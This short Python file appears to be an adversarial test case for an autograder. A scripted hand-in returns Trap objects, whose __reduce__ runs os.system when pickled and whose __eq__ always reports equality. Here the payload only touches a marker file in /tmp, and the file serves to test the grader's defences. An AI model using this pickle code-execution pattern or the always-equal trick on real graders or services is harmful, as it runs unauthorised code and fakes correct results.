"""Answers with arrays of objects, which only pickle could carry, and whose objects run code when pickled."""

CLASS = "answer parser"
DESERVES = 10

TRAP = """
class Trap:
    def __reduce__(self):
        import os
        return os.system, ("touch /tmp/gradestone-attack-pickle",)
    __eq__ = lambda self, other: True
    __array__ = lambda self, *args, **kwargs: np.array([self], dtype=object)
"""


def submit(hand_in):
    hand_in.solve("linear_forward")
    hand_in.cell(TRAP)
    hand_in.write("compute_cost", "def compute_cost(AL, Y):\n    return np.array([[Trap()]], dtype=object)")
    hand_in.write(
        "linear_backward", "def linear_backward(dZ, cache):\n    return Trap(), [Trap()], {1: Trap()}"
    )
    hand_in.write("update_parameters", "def update_parameters(p, g, learning_rate):\n    return Trap()")
